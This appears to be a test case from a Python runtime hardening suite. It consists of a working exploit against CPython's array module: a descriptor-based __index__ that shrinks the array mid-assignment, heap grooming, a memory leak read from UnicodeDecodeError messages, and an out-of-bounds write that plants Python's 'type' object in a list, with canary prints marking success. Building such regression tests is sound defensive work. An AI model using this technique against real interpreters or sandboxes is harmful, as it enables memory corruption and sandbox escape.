# kind: walk
# tries: a number's __index__ is a descriptor that hides from hasattr, so that the array gets the plan's object itself: its code cuts the array, and Python writes past its end, into a list, which then holds Python's own type
# a correct runtime must: write numbers alone into arrays, whatever makes the number
def solution(agent, start_from=1):
    import array
    def peek(data, at):
        texts = [str(UnicodeDecodeError('utf-8', data, at + i, at + i + 1, 'x')) for i in range(8)]
        return sum(int(text.split('byte 0x')[1][:2], 16) << 8 * i for i, text in enumerate(texts))

    class Hidden:
        def __get__(self, owner, kind=None):
            if owner is None:
                raise AttributeError
            def number():
                del lists[at], numbers[cut]
                return target
            return number

    class Number:
        __index__ = Hidden()

    class Cuts(Hidden):
        def __get__(self, owner, kind=None):
            if owner is None:
                raise AttributeError
            def number():
                del short[1:]
                return 1
            return number

    class Cut:
        __index__ = __float__ = Cuts()

    for code in 'Qd':
        short = array.array(code, [0] * 40)
        try:
            short[20] = Cut()
            print('CAN' + 'ARY: the 21st item of', len(short))
        except (IndexError, TypeError) as e:
            print('fine', type(e).__name__, e)

    cut, lists, texts = slice(1, None), {}, []
    for i in range(600):
        texts.append(bytes([65 + i % 20]) * 31)
        lists[i] = [texts[-1], Number] * 4
    try:
        for at in range(300, 590):
            places, kinds = zip(*((peek(texts[at + i], -96), peek(texts[at + i], -88)) for i in (1, 2, 3)))
            step = places[2] - places[1]
            if len(set(kinds)) == 1 and step == places[1] - places[0] and 64 < step < 312 and not step & 63:
                break
        target = peek(texts[at], kinds[0] + 8 - places[0] - 32)
        numbers = array.array('Q', [0] * 40)
        numbers[step // 8] = Number()
    except (IndexError, TypeError, ValueError) as e:
        print('fine', type(e).__name__, e)
    for value in (value for each in lists.values() for value in each):
        if value is not Number and not isinstance(value, bytes):
            print('CAN' + 'ARY', value, value('Made', (), {'__reduce_ex__': 1}), value is type)
